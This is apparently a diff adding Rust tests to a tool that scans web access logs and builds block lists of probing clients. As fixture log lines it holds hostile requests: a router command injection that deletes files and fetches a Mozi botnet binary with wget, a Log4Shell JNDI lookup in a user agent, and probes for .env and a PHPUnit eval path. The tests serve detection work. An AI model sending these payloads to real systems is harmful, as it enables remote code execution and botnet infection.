@@ -156,6 +156,78 @@ fn an_empty_list_clears_the_set() {
 }
 
 #[test]
+fn an_empty_list_says_why() {
+    let harness = Harness::new();
+    let said = |log: &str, args: &[&str]| {
+        harness.file("access.log", log);
+        let run = block(&harness, &[args, &["access.log"]].concat());
+        assert_eq!((run.code, run.text().lines().any(|line| !line.starts_with('#'))), (0, false), "{}", run.text());
+        run.stderr
+    };
+    assert_eq!(said(&others(), &[]), "note: the list is empty: no client is a block candidate\n");
+    assert_eq!(said("", &[]), "note: the list is empty: no client is a block candidate\n");
+    let mixed = [
+        prober_ago("203.0.113.1", 30 * 3_600),
+        prober_ago("203.0.113.2", 31 * 3_600),
+        prober_ago("198.51.100.1", 60) + &visitor("198.51.100.1", 1),
+        prober_ago("10.0.0.1", 60),
+        reader("198.51.100.7", &["GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m"], "-"),
+        prober("198.51.100.9").replace("[02/Nov/2026:08:01:00 +0000]", "[-]"),
+        others(),
+    ]
+    .concat();
+    let stderr = said(&mixed, &[]);
+    for part in [
+        "the list is empty: 6 candidates: 2 last probed over 24h ago (--ttl), 1 sent ordinary requests (--max-cost)",
+        "1 may be readers of a page of others",
+        "1 must not be listed (not a public address)",
+        "1 have no time",
+    ] {
+        assert!(stderr.contains(part), "{part}: {stderr}");
+    }
+    assert_eq!(said(&mixed, &["-q"]), "");
+    assert!(said(&(0..30).map(|_| prober_ago("203.0.113.9", 60)).collect::<String>(), &[]).contains("1 may be a proxy (--trusted-proxy)"));
+    // AbuseIPDB accepts only what is new.
+    let old = prober_ago("203.0.113.1", 61 * 86_400) + &prober_ago("203.0.113.2", 62 * 86_400);
+    let stderr = said_of_abuse(&harness, &(old + &others()));
+    assert!(stderr.contains("the list is empty: 2 candidates: 2 last probed over 60 days ago (AbuseIPDB accepts no older)"), "{stderr}");
+}
+
+/// What is said of a report to AbuseIPDB without an address.
+fn said_of_abuse(harness: &Harness, log: &str) -> String {
+    harness.file("access.log", log);
+    let run = block(harness, &[&LONG[..], &["--format", "abuseipdb", "access.log"]].concat());
+    assert_eq!((run.code, run.text().lines().count()), (0, 1), "{}", run.text());
+    run.stderr
+}
+
+#[test]
+fn a_damaged_log_gives_the_candidates_of_its_lines() {
+    let harness = Harness::new();
+    let mut log = (prober("203.0.113.9") + &others()).into_bytes();
+    let half = log.len() / 2;
+    let line_start = log[half..].iter().position(|&byte| byte == b'\n').unwrap() + half + 1;
+    log.splice(line_start..line_start, vec![0; 5_000]);
+    harness.file("access.log", &log);
+    let run = block(&harness, &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat());
+    assert_eq!(run.code, 3, "{}", run.stderr);
+    assert!(run.stderr.contains("access.log: ") && run.stderr.contains("NUL"), "{}", run.stderr);
+    assert!(fs::read_to_string(harness.path("list")).unwrap().ends_with("\n203.0.113.9\n"));
+    // None of its lines is a candidate's: that is an error, because it may be the damage.
+    harness.file("access.log", [others().into_bytes(), vec![0; 5_000], others().into_bytes()].concat());
+    let run = block(&harness, &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat());
+    assert_eq!(run.code, 3, "{}", run.stderr);
+    assert!(run.stderr.contains("error: the list is empty: no client is a block candidate, and some input is damaged"), "{}", run.stderr);
+    // Nothing is left of it.
+    harness.file("list", "kept");
+    harness.file("access.log", vec![0; 5_000]);
+    let run = block(&harness, &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat());
+    assert_eq!(run.code, 3, "{}", run.stderr);
+    assert!(run.stderr.contains("error: no list is written: no line of the logs can be read"), "{}", run.stderr);
+    assert_eq!(fs::read_to_string(harness.path("list")).unwrap(), "kept");
+}
+
+#[test]
 fn two_lists_of_the_same_logs_are_equal() {
     let harness = Harness::new();
     let clients = ["203.0.113.9", "198.51.100.7", "9.9.9.9", "2001:db8::1", "2001:db8:0:1::1"];
@@ -266,6 +338,62 @@ fn clients_that_may_be_proxies_are_not_listed() {
     // Two addresses before the time: none of them is certain.
     let doubtful = with_prefix("198.51.100.3 ", &(prober("203.0.113.9") + &others()));
     assert_eq!(listed(&harness, &doubtful, &[]), [""; 0]);
+}
+
+/// A reader of a page with links to these paths of the site, whose browser sends them.
+fn reader(client: &str, requests: &[&str], referer: &str) -> String {
+    const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+    let sent = |request: &&str| line(client, &format!("{request} HTTP/1.1"), 404);
+    let lines: String = requests.iter().map(sent).collect();
+    lines.replace("\"-\" \"Mozilla/5.0\"", &format!("\"{referer}\" \"{FIREFOX}\""))
+}
+
+#[test]
+fn readers_of_a_page_with_links_to_the_site_are_not_listed() {
+    let harness = Harness::new();
+    let images =
+        ["GET /shell.php", "GET /.env", "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m"];
+    let frame = ["POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"; 9];
+    let readers = [
+        reader("198.51.100.1", &images[2..], "https://forum.example/thread/7"),
+        reader("198.51.100.2", &images, "https://forum.example/"),
+        reader("198.51.100.3", &images, "-"),
+        reader("198.51.100.4", &frame, "null"),
+        reader("2001:db8:9:9::1", &images, "-"),
+        reader("2001:db8:9:9::2", &images, "-"),
+        // A search engine and a preview follow the links too.
+        line(
+            "198.51.100.5",
+            "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m HTTP/1.1",
+            404,
+        )
+        .replace("Mozilla/5.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
+    ];
+    let crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+    // The same list, by tools and by one who sends more than a page has.
+    let paths: Vec<String> = (0..10).map(|n| format!("GET /{n}/.env")).collect();
+    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
+    let tool = reader("203.0.113.1", &images[2..], "https://forum.example/thread/7");
+    let probers = [
+        tool.replace("Gecko", "Nikto").replace("Firefox", ""),
+        reader("203.0.113.2", &paths, "https://forum.example/"),
+        reader("203.0.113.3", &["POST /wp-login.php"; 10], "-"),
+        prober("203.0.113.5").replace("Mozilla/5.0", crawler),
+        reader("203.0.113.4", &images[2..], "-").replace("Firefox/128.0", "Firefox/128.0 ${jndi:ldap://203.0.113.77/a}"),
+    ];
+    let log = [readers.concat(), reader("203.0.113.9", &paths[..9], "-"), probers.concat(), others()].concat();
+    let expected = ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4", "203.0.113.5"];
+    assert_eq!(listed(&harness, &log, &[]), expected);
+    let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
+    assert!(run.stderr.contains("7 candidates are not listed, because a page of others may have made their browser"), "{}", run.stderr);
+    // They are hits all the same, and a report gives the same list.
+    let run = harness.run(["scan", "-f", "json", "-o", "scan.json", "access.log"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(fs::read_to_string(harness.path("scan.json")).unwrap().contains("198.51.100.1"));
+    assert_eq!(entries(&block(&harness, &[&LONG[..], &["scan.json"]].concat())), expected);
+    // A log without user agents does not show who sent a request.
+    let common = |log: &str| log.lines().map(|line| line.split(" \"").take(2).collect::<Vec<_>>().join(" \"") + "\n").collect::<String>();
+    assert_eq!(listed(&harness, &common(&log), &[]), ["203.0.113.2", "203.0.113.3"]);
 }
 
 /// The lines of a log with another first field.
